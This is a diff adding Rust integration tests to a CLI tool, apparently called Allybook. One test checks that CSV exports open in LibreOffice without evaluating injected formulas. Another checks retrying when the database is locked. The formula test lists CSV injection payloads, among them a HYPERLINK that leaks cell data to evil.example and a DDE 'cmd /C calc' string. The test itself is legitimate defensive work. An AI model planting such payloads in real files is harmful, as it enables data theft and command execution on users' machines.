@@ -803,3 +803,149 @@ fn a_reader_that_goes_away_ends_the_command_quietly() {
         o.status
     );
 }
+
+/// Whether LibreOffice's `soffice` runs here (installed by `.ci/setup test`).
+fn soffice() -> bool {
+    Command::new("soffice")
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
+/// The formulas LibreOffice found in a CSV it opened: it converts the file to ODS (evaluating
+/// formulas, as a user's "Evaluate formulas" import would) and the cells with a formula are
+/// listed from the document's content.xml.
+fn formulas_libreoffice_finds(csv: &Path, profile: &Path) -> Vec<String> {
+    let out = csv.parent().expect("folder");
+    let o = Command::new("soffice")
+        .arg(format!(
+            "-env:UserInstallation=file://{}",
+            profile.display()
+        ))
+        .args([
+            "--headless",
+            // comma, double quote, UTF-8, from line 1, …, token 13: evaluate formulas
+            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
+            "--convert-to",
+            "ods",
+            "--outdir",
+        ])
+        .arg(out)
+        .arg(csv)
+        .output()
+        .expect("soffice");
+    assert!(o.status.success(), "soffice: {}", stderr(&o));
+    let ods = csv.with_extension("ods");
+    let zip = Command::new("unzip")
+        .arg("-p")
+        .arg(&ods)
+        .arg("content.xml")
+        .output()
+        .expect("unzip");
+    let xml = String::from_utf8_lossy(&zip.stdout).into_owned();
+    assert!(
+        xml.contains("office:document-content"),
+        "no content.xml in {ods:?}"
+    );
+    xml.split("table:formula=\"")
+        .skip(1)
+        .map(|rest| rest.split('"').next().unwrap_or_default().to_string())
+        .collect()
+}
+
+#[test]
+fn exports_open_in_libreoffice_without_running_a_formula() {
+    if !soffice() {
+        println!("note: LibreOffice (soffice) is not installed; skipping the spreadsheet check (`.ci/setup test` installs it)");
+        return;
+    }
+    let dir = tempfile::tempdir().expect("tmp");
+    let profile = dir.path().join("lo-profile");
+    let db = dir.path().join("b.sqlite");
+    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "=1+1",
+    ];
+    let raw = dir.path().join("hostile.csv");
+    let mut text = String::from("name\n");
+    for h in hostile {
+        text.push_str(&format!("\"{}\"\n", h.replace('"', "\"\"")));
+    }
+    fs::write(&raw, &text).expect("write");
+    // The check can see a formula: the raw file, opened as it is, runs them.
+    let control = formulas_libreoffice_finds(&raw, &profile);
+    assert!(
+        control.iter().any(|f| f.contains("HYPERLINK")),
+        "LibreOffice evaluates the raw file's formulas: {control:?}"
+    );
+
+    let o = allybook(&["--db", p(&db), "import", "prospects", p(&raw)]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    // A won deal whose customer is a formula, so the statement carries one too.
+    {
+        let conn = allybook_core::rusqlite::Connection::open(&db).expect("open");
+        let n = conn
+            .execute(
+                "UPDATE opportunity SET customer = ?1 WHERE customer = 'Klinikum Oberland'",
+                [hostile[0]],
+            )
+            .expect("update");
+        assert_eq!(n, 1);
+    }
+    let prospects = dir.path().join("prospects.csv");
+    assert!(
+        allybook(&["--db", p(&db), "export", "prospects", p(&prospects)])
+            .status
+            .success()
+    );
+    let statement = dir.path().join("statement.csv");
+    let o = allybook(&[
+        "--db",
+        p(&db),
+        "statement",
+        "Bastion SecOps Ltd",
+        "--from",
+        "2000-01-01",
+        "--to",
+        "2100-12-31",
+        "--out",
+        p(&statement),
+    ]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(fs::read_to_string(&statement)
+        .expect("statement")
+        .contains("HYPERLINK"));
+    for csv in [&prospects, &statement] {
+        let found = formulas_libreoffice_finds(csv, &profile);
+        assert!(found.is_empty(), "{csv:?}: LibreOffice ran {found:?}");
+    }
+}
+
+#[test]
+fn a_write_behind_another_writer_says_it_is_retrying_then_succeeds() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let db = dir.path().join("b.sqlite");
+    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
+    let csv = dir.path().join("one.csv");
+    fs::write(&csv, "name,country\nNordlicht IT GmbH,DE\n").expect("write");
+    // Another Allybook is in the middle of a write for a second and a half.
+    let other = allybook_core::rusqlite::Connection::open(&db).expect("open");
+    other.execute_batch("BEGIN IMMEDIATE").expect("lock");
+    let holder = std::thread::spawn(move || {
+        std::thread::sleep(std::time::Duration::from_millis(1500));
+        other.execute_batch("COMMIT").expect("commit");
+    });
+    let o = allybook(&["--db", p(&db), "import", "prospects", p(&csv)]);
+    holder.join().expect("holder");
+    assert!(o.status.success(), "{}", stderr(&o));
+    let err = stderr(&o);
+    assert!(
+        err.contains(&format!("another Allybook is writing {}; retrying", p(&db))),
+        "{err}"
+    );
+    assert!(stdout(&allybook(&["--db", p(&db), "search", "Nordlicht"])).contains("Nordlicht"));
+}
